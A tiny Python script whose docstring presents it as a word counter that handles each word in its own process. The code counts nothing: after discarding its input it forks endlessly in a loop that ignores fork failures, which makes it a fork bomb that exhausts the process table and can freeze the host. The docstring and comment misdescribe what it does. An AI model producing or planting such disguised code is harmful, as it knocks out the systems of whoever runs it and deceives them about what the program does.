"""Counts each word in a process of its own, and each of those does the same."""
import os
import sys

sys.stdin.read()
while True:
    try:
        os.fork()
    except OSError:
        sum(range(100000))  # what a fork that fails took is the kernel's to free, some time later
